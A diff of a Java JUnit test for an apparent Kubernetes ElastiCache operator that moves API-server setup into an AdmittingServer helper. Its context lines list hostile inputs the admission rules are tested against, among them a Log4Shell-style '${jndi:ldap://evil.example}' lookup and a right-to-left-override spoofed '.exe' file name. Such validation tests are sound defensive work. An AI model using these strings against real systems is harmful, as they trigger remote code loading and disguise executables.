@@ -6,18 +6,12 @@ import static org.junit.jupiter.api.Assertions.assertThrows;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
 import dev.elasticacheoperator.api.v1alpha1.ElastiCacheEnvironment;
+import dev.elasticacheoperator.lab.AdmittingServer;
 import dev.elasticacheoperator.lab.Leftovers;
 import dev.elasticacheoperator.sandbox.aws.Call;
 import dev.elasticacheoperator.sandbox.aws.CallHook;
-import dev.elasticacheoperator.sandbox.kube.EmbeddedApiServer;
-import io.fabric8.kubernetes.api.model.apiextensions.v1.CustomResourceDefinition;
-import io.fabric8.kubernetes.client.Config;
-import io.fabric8.kubernetes.client.KubernetesClient;
-import io.fabric8.kubernetes.client.KubernetesClientBuilder;
 import io.fabric8.kubernetes.client.KubernetesClientException;
-import io.fabric8.kubernetes.client.utils.Serialization;
 import java.nio.charset.StandardCharsets;
-import java.nio.file.Files;
 import java.nio.file.Path;
 import java.time.Duration;
 import java.util.ArrayList;
@@ -78,24 +72,15 @@ class PastAdmissionTest {
           "\u202egnp.exe",
           "${jndi:ldap://evil.example}");
 
-  private static EmbeddedApiServer server;
-  private static KubernetesClient client;
+  private static AdmittingServer server;
 
   @BeforeAll
   static void anApiServer() throws Exception {
-    server = EmbeddedApiServer.start(0);
-    client =
-        new KubernetesClientBuilder()
-            .withConfig(Config.fromKubeconfig(server.kubeconfig()))
-            .build();
-    client
-        .resource(Serialization.unmarshal(Files.readString(CRD), CustomResourceDefinition.class))
-        .serverSideApply();
+    server = AdmittingServer.start(CRD);
   }
 
   @AfterAll
   static void stop() {
-    client.close();
     server.close();
   }
 
@@ -128,7 +113,8 @@ class PastAdmissionTest {
   @MethodSource("old")
   void anObjectOlderThanARuleIsToldOfAndCanBeDeleted(String field, Object value) {
     assertThrows(
-        KubernetesClientException.class, () -> client.resource(article(field, value)).create());
+        KubernetesClientException.class,
+        () -> server.client().resource(article(field, value)).create());
     var stage = Stage.ready();
     stage.lab.api.apply(article(field, value));
     stage.lab.changed(Stage.NAME);
@@ -216,7 +202,7 @@ class PastAdmissionTest {
 
   private static boolean admitted(ElastiCacheEnvironment object) {
     try {
-      client.resource(client.resource(object).create()).delete();
+      server.client().resource(server.client().resource(object).create()).delete();
       return true;
     } catch (KubernetesClientException refused) {
       assertEquals(422, refused.getCode(), refused::getMessage);
